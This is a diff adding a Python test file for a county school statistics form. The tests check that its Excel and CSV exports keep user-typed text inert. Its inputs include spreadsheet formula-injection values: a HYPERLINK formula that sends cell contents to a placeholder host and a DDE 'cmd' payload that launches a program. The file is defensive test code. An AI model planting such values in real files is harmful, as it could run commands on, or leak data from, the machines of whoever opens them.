@@ -1,0 +1,39 @@
+"""The statistics form as files: typed text stays text in Excel, never a live formula."""
+from __future__ import annotations
+
+import csv
+import datetime
+import io
+
+from openpyxl import load_workbook
+
+from server.exports import Filler, to_csv, to_xlsx
+from server.queries.stats import KEYS, StatsForm, StatsRow
+
+TYPED = ("=HYPERLINK(\"http://example.invalid/?\"&A1,\"点这里\")", "+86 139 0000 1234", "-2 人转学", "@SUM(A1)")
+
+
+def _form() -> StatsForm:
+    rows = tuple(StatsRow(f"u{i}", name, tuple(range(len(KEYS))), remark)
+                 for i, (name, remark) in enumerate([("=1+1小学", TYPED[0]), ("掘港中学", TYPED[2]),
+                                                     ("栟茶小学", TYPED[3])]))
+    return StatsForm("county", "如东县", "county", "2026-09-01", "2026-11-30", rows,
+                     StatsRow(None, "合计", tuple(range(len(KEYS))), ""))
+
+
+def test_text_that_begins_like_a_formula_is_a_text_cell_in_the_xlsx() -> None:
+    data = to_xlsx(_form(), Filler(datetime.date(2026, 12, 2), "=cmd|' /C calc'!A0", TYPED[1]))
+    ws = load_workbook(io.BytesIO(data)).active
+    assert ws is not None
+    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"], "no cell is a formula"
+    texts = {c.value for c in cells}
+    assert {TYPED[0], TYPED[2], TYPED[3], "=1+1小学"} <= texts, "each typed text is kept as typed"
+    assert [c.value for c in ws[5]][:3] == ["=1+1小学", 0, 1], "the figures stay numbers"
+
+
+def test_text_that_begins_like_a_formula_gets_an_apostrophe_in_the_csv() -> None:
+    rows = list(csv.reader(io.StringIO(to_csv(_form()).decode("utf-8-sig"))))
+    assert [r[0] for r in rows[1:4]] == ["'=1+1小学", "掘港中学", "栟茶小学"]
+    assert [r[-1] for r in rows[1:4]] == ["'" + TYPED[0], "'" + TYPED[2], "'" + TYPED[3]]
+    assert rows[1][1:3] == ["0", "1"], "the figures stay numbers"
